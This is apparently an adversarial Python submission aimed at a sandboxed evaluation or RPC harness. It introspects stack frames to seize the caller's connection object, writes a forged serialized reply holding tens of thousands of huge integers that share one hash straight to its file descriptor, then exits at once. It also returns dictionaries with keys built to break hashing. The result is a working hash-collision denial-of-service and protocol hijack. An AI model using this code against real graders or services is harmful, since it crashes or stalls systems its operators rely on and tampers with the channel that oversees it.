# /// attack
# tries = "Answers with dicts of thousands of long integers that share one hash, and with keys that cannot be hashed."
# gain = "harm"
# plain = "harm"
# ///
import os
import struct
import sys

PRIME = 2**61 - 1
START = (1 << 3900) // PRIME * PRIME

def connection():
    frame = sys._getframe()
    while frame is not None:
        me = frame.f_locals.get("self")
        if hasattr(me, "session") and hasattr(me, "fd"):
            return me
        frame = frame.f_back
    return None


def table():
    rows = bytearray(b"\xde\x10\x00")
    for number in range(4096):
        value = START + number * PRIME
        data = value.to_bytes(value.bit_length() // 8 + 1, "big", signed=True)
        rows += b"\xc8" + struct.pack(">Hb", len(data), 3) + data + b"\xc0"
    return bytes(rows)


TABLE = table()


def double(x):
    me = connection()
    if me is None:
        return {START + number * PRIME: None for number in range(30000)}
    data = b"\x95\xce" + struct.pack(">I", me._number) + b"\xa5value\xdc\x00\x10" + TABLE * 16 + b"\xa0\x90"
    view = memoryview(struct.pack(">I", len(data)) + data)
    while view:
        view = view[os.write(me.fd, view) :]
    os._exit(0)


class Key(list):
    __hash__ = object.__hash__


class Box:
    def put(self, x):
        return {Key(): 1, (1, Key()): 2, frozenset(): 3, float("nan"): 4}

    def take(self):
        return {1: 0, True: 1, 1.0: 2, (): {(): {}}}


def apply(f, x):
    return f({Key(): x})
